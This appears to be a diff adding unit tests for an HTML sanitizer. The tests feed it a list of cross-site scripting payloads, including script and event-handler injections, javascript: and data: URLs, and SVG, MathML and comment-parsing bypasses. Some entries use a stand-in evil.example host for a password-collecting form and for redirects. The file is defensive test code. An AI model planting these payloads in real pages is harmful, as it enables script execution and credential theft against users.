@@ -1,0 +1,54 @@
+import { describe, expect, it } from 'vitest'
+import { cleanHtml, cleanText } from './clean-html.ts'
+
+const HOSTILE = [
+  '<script>alert(1)</script>',
+  '<scr<script>ipt>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '<img/src=x/onerror=alert(1)>',
+  '<p onclick=alert(1) OnMouseOver="alert(1)">a</p>',
+  '<a href="JaVaScRiPt:alert(1)">a</a>',
+  '<a href="java\tscript:alert(1)">a</a>',
+  '<a href="&#106;avascript:alert(1)">a</a>',
+  '<a href="\u0001javascript:alert(1)">a</a>',
+  '<a href="vbscript:msgbox(1)">a</a>',
+  '<a href="data:text/html;base64,PHNjcmlwdD4=">a</a>',
+  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
+  '<svg onload=alert(1)><script>alert(1)</script></svg>',
+  '<svg><a xlink:href="javascript:alert(1)"><text>a</text></a></svg>',
+  '<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>',
+  '<style>body{background:url(javascript:alert(1))}</style>',
+  '<p style="position:fixed;inset:0">a</p>',
+  '<iframe src="https://evil.example"></iframe><iframe srcdoc="<script>alert(1)</script>">',
+  '<object data="x.swf"></object><embed src="x.swf">',
+  '<form action="https://evil.example"><input name=password><button>OK</button></form>',
+  '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=//evil.example"><link rel=stylesheet href=x.css>',
+  '<template><script>alert(1)</script></template>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<!--><script>alert(1)</script>-->',
+  '<b><i><a href="javascript:alert(1)"><table><tr><td onclick=x>a</b></i>',
+  '<p title="><script>alert(1)</script>">a</p>',
+]
+
+/** Elements and attributes as a browser would read them: quoted values end at their quote. */
+function* tagsOf(html: string): Generator<{ tag: string; attributes: string[] }> {
+  for (const [, tag = '', rest = ''] of html.matchAll(/<([a-z][a-z0-9]*)((?:\s+[^\s=>"]+(?:="[^"]*")?)*)\s*\/?>/gi)) {
+    yield { tag: tag.toLowerCase(), attributes: [...rest.matchAll(/([^\s=>"]+)(?:="([^"]*)")?/g)].map(([whole]) => whole) }
+  }
+}
+
+describe('cleanHtml (behaviour 20.9)', () => {
+  it.each(HOSTILE)('nothing of %s runs, loads or dresses up', (html) => {
+    const clean = cleanHtml(html)
+    expect(clean).not.toMatch(/<(?:script|style|svg|math|iframe|object|embed|form|input|button|base|link|meta|template|noscript)\b/i)
+    for (const { attributes } of tagsOf(clean)) {
+      for (const attribute of attributes)
+        expect(attribute).not.toMatch(/^(?:on\w+|style|srcdoc|xlink:\w+)=|^(?:href|src)="\W*(?:javascript|vbscript|data):/i)
+    }
+    expect(cleanHtml(clean), 'cleaned once is clean').toBe(clean)
+  })
+
+  it.each(HOSTILE)('shoppers have no tags at all: %s', (html) => {
+    expect(cleanText(html)).not.toMatch(/<[a-z/!?]/i)
+  })
+})
